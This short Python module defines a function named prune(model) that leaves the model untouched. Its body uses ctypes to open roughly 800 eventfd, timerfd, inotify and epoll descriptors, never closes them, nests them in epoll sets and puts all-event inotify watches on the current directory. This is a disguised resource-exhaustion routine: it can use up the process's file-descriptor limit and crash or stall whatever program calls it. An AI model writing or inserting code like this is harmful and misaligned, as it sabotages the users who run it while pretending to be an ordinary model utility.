"""Kernel objects that are descriptors and nothing else: event counters, watches, polls within polls."""

import ctypes


def prune(model):
    libc, kept = ctypes.CDLL(None), []
    for _ in range(200):
        kept += [libc.eventfd(0, 0), libc.timerfd_create(1, 0), libc.inotify_init(), libc.epoll_create1(0)]
        for fd in kept[-4:-1]:
            libc.epoll_ctl(kept[-1], 1, fd, bytes(12))
        libc.inotify_add_watch(kept[-2], b".", 0xFFF)
    return model
